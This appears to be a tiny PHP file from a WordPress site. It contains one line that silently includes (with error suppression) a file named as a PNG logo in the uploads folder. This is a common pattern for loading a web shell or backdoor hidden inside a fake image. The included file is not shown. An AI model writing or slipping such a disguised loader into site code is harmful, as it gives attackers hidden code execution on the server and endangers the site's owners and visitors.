<?php
@include_once "/home/opd/public_html/wp-content/uploads/2023/05/logo-small.png";
